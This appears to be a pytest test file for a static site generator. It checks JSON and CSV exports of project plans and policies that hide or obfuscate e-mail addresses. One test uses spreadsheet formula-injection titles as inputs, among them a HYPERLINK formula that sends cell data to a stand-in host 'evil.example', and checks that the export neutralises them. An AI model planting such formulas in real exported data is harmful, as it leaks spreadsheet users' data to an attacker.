import csv
import io
import json
from html import escape

import pytest

from planfolio.privacy import obfuscate_email, publish_text

from conftest import plan_text, write_plans
from sitecheck import read_page
from test_build import run_build

ANSWER = "## Challenge statement\n\n> What is your challenge?\n\nAsk jane.doe@example.org for the data.\n"


def build_with(tmp_path, config_text=""):
    source = write_plans(
        tmp_path / "plans",
        {
            "water.md": plan_text(
                "Water for all",
                {
                    "country": "Kenya",
                    "year": "2023",
                    "methods": ["Co-creation", "Ethnography"],
                    "sdgs": ["6. Clean water"],
                    "latlng": "-1.29,36.82",
                    "focal_point": "private.person@undp.org",
                },
                ANSWER,
            ),
            "air.md": plan_text("Clean air", {"country": "Chad", "year": "2021"}),
        },
    )
    (tmp_path / "site.yml").write_text(config_text, encoding="utf-8")
    output = tmp_path / "site"
    result = run_build(
        "build", "--source", source, "--output", output, "--config", tmp_path / "site.yml", cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    return output


def read_json(output):
    return json.loads((output / "plans.json").read_text(encoding="utf-8"))


def read_csv(output):
    text = (output / "plans.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_json_holds_every_plan_with_its_page_metadata_and_answers(tmp_path):
    output = build_with(tmp_path)
    plans = {plan["title"]: plan for plan in read_json(output)["plans"]}
    assert set(plans) == {"Water for all", "Clean air"}
    water = plans["Water for all"]
    assert water["url"] == "plans/water-for-all.html" and (output / water["url"]).is_file()
    assert water["country"] == "Kenya" and water["year"] == 2023
    assert water["methods"] == ["Co-creation", "Ethnography"]
    assert water["latlng"] == [-1.29, 36.82]
    assert water["sections"][0]["heading"] == "Challenge statement"
    assert water["sections"][0]["entries"] == [
        {"question": "What is your challenge?", "answer": "Ask [e-mail address not published] for the data."}
    ]


def test_csv_has_one_row_of_metadata_per_plan_with_lists_joined(tmp_path):
    rows = {row["title"]: row for row in read_csv(build_with(tmp_path))}
    assert set(rows) == {"Water for all", "Clean air"}
    water = rows["Water for all"]
    assert water["url"] == "plans/water-for-all.html"
    assert water["methods"] == "Co-creation;Ethnography"
    assert water["sdgs"] == "6. Clean water"
    assert (water["latitude"], water["longitude"]) == ("-1.29", "36.82")
    assert rows["Clean air"]["methods"] == "" and rows["Clean air"]["year"] == "2021"


def test_the_home_page_links_the_data(tmp_path):
    links = read_page(build_with(tmp_path) / "index.html").links
    assert "plans.json" in links and "plans.csv" in links


@pytest.mark.parametrize(
    ("policy", "focal_point", "in_answer"),
    [
        ("hide", "", "[e-mail address not published]"),
        ("obfuscate", "private.person (at) undp (dot) org", "jane.doe (at) example (dot) org"),
        ("show", "private.person@undp.org", "jane.doe@example.org"),
    ],
)
def test_focal_points_policy_holds_in_pages_json_and_csv(tmp_path, policy, focal_point, in_answer):
    output = build_with(tmp_path, f"focal_points: {policy}\n")
    page = (output / "plans/water-for-all.html").read_text(encoding="utf-8")
    water = next(plan for plan in read_json(output)["plans"] if plan["slug"] == "water-for-all")
    row = next(row for row in read_csv(output) if row["title"] == "Water for all")
    assert water["focal_point"] == row["focal_point"] == focal_point
    assert in_answer in water["sections"][0]["entries"][0]["answer"]
    assert in_answer in page
    assert (f"<dd>{focal_point}</dd>" in page) == bool(focal_point)
    if policy != "show":
        published = page + (output / "plans.json").read_text(encoding="utf-8")
        published += (output / "plans.csv").read_text(encoding="utf-8-sig")
        assert "@undp.org" not in published and "@example.org" not in published


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Write to a.b+c@mail.example.org.", "Write to a.b+c (at) mail (dot) example (dot) org."),
        ("<a.b@undp.org>", "a.b (at) undp (dot) org"),
        ("no address @ here, nor user@host", "no address @ here, nor user@host"),
        ("two: x@y.io, z@w.org", "two: x (at) y (dot) io, z (at) w (dot) org"),
    ],
)
def test_addresses_in_text_are_obfuscated(text, expected):
    assert publish_text(text, "obfuscate") == expected


LINKED = (
    "Ask [the team](mailto:jane@undp.org), <mailto:bob@undp.org>, <ann@undp.org>,"
    ' <a href="mailto:sam@undp.org?subject=Water">Sam</a> or [lee@undp.org](mailto:lee@undp.org).'
)


@pytest.mark.parametrize(
    ("policy", "shown"),
    [
        ("hide", "Ask the team, {0}, {0}, Sam or {0}.".format("[e-mail address not published]")),
        (
            "obfuscate",
            "Ask the team (jane (at) undp (dot) org), bob (at) undp (dot) org, ann (at) undp (dot) org,"
            " Sam (sam (at) undp (dot) org) or lee (at) undp (dot) org.",
        ),
    ],
)
def test_links_to_withheld_addresses_become_their_text(tmp_path, policy, shown):
    """A link to an address is a link of the page: withheld, it must not leave its markdown
    or a broken mailto: link behind."""
    source = write_plans(
        tmp_path / "plans",
        {
            "water.md": plan_text(
                "Water", {"country": "Kenya"}, f"## Challenge statement\n\n> Who?\n\n{LINKED}\n"
            )
        },
    )
    (tmp_path / "site.yml").write_text(f"focal_points: {policy}\n", encoding="utf-8")
    output = tmp_path / "site"
    result = run_build(
        "build", "--source", source, "--output", output, "--config", tmp_path / "site.yml", cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    page = read_page(output / "plans/water.html")
    assert not [link for link in page.links if link.startswith("mailto:")]
    html = (output / "plans/water.html").read_text(encoding="utf-8")
    assert f"<p>{escape(shown)}</p>" in html
    answer = read_json(output)["plans"][0]["sections"][0]["entries"][0]["answer"]
    assert answer == shown and "@" not in html


def test_obfuscated_address_keeps_its_parts():
    assert obfuscate_email("first.last@undp.org") == "first.last (at) undp (dot) org"


@pytest.mark.parametrize("count", [0, 1, 3])
def test_plans_json_holds_the_site_and_one_plan_per_line(tmp_path, count):
    from planfolio.config import Config
    from planfolio.data import plan_record, plans_json, record_json
    from planfolio.pipeline import read_site

    titles = ["Water", 'Air "quoted" \\ path', "Éau — 水"][:count]
    source = write_plans(
        tmp_path / "plans", {f"{n}.md": plan_text(t, {"country": "Chad"}) for n, t in enumerate(titles)}
    )
    plans = read_site(source).plans
    config = Config(title='A "portfolio"', description="Line one\nline two")
    text = plans_json(config, [record_json(plan, "hide") for plan in plans]).decode()
    assert json.loads(text) == {
        "title": config.title,
        "description": config.description,
        "base_url": config.base_url,
        "plans": [plan_record(plan, "hide") for plan in plans],
    }
    lines = text.splitlines()
    assert [json.loads(line.rstrip(",")) for line in lines[1:-1]] == [plan_record(p, "hide") for p in plans]


def test_a_record_is_what_json_dumps_writes_and_leaves_the_plan_s_answers_as_they_were():
    import sys

    from planfolio.data import plan_record, record_json
    from planfolio.parse import parse_plan

    body = "## Learnings\n\n> What did you learn?\n\nDéchets « triés » — 再利用 and a tab\there.\n"
    plan = parse_plan(plan_text("Côte d'Ivoire", {"latlng": "5.3,-4.0"}, body), "a.md")[0]
    answer = plan.sections[-1].entries[-1].answer
    size = sys.getsizeof(answer)  # a string that caches its UTF-8 form grows by it
    expected = json.dumps(plan_record(plan, "hide"), ensure_ascii=False, separators=(",", ":"))
    assert record_json(plan, "hide") == expected.encode("utf-8")
    assert sys.getsizeof(answer) == size


@pytest.mark.parametrize(
    "title", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1)", "+cmd|x", "- Closing form"]
)
def test_a_csv_cell_a_spreadsheet_would_run_is_marked_as_text_and_numbers_are_not(tmp_path, title):
    source = write_plans(
        tmp_path / "plans", {"a.md": plan_text(title, {"country": "Chile", "latlng": "-33.45,-70.66"})}
    )
    assert run_build("build", "--source", source, "--output", tmp_path / "site", cwd=tmp_path).returncode == 0
    [row] = read_csv(tmp_path / "site")
    assert row["title"] == "'" + title
    assert (row["latitude"], row["longitude"]) == ("-33.45", "-70.66")
    assert read_json(tmp_path / "site")["plans"][0]["title"] == title  # the data as written


@pytest.mark.parametrize(
    ("text", "hidden", "obfuscated"),
    [
        (
            "[the [core] team](mailto:j@undp.org)",
            "the [core] team",
            "the [core] team (j (at) undp (dot) org)",
        ),
        ("[Jo](mailto:j@undp.org (Write to Jo))", "Jo", "Jo (j (at) undp (dot) org)"),
        ("<a href=mailto:j@undp.org>Jo</a>", "Jo", "Jo (j (at) undp (dot) org)"),
        ('<A HREF="MAILTO:j@undp.org" class="x">Jo</A>', "Jo", "Jo (j (at) undp (dot) org)"),
        ("[Team](mailto:a@x.org,b@y.org)", "Team", "Team (a (at) x (dot) org, b (at) y (dot) org)"),
        # Not links to addresses: only the address in them is withheld, as in any text.
        (
            '<a href="https://x.org" data-href="mailto:j@undp.org">X</a>',
            '<a href="https://x.org" data-href="mailto:[e-mail address not published]">X</a>',
            '<a href="https://x.org" data-href="mailto:j (at) undp (dot) org">X</a>',
        ),
        (
            "<https://user@host.example.org/path>",
            "<https://[e-mail address not published]/path>",
            "<https://user (at) host (dot) example (dot) org/path>",
        ),
    ],
)
def test_each_way_of_linking_to_an_address_is_undone(text, hidden, obfuscated):
    assert (publish_text(text, "hide"), publish_text(text, "obfuscate")) == (hidden, obfuscated)
    assert publish_text(text, "show") == text


def test_a_focal_point_is_a_value_not_markdown():
    from planfolio.privacy import publish_focal_point

    assert publish_focal_point("Jane <jane@undp.org>", "obfuscate") == "Jane <jane (at) undp (dot) org>"
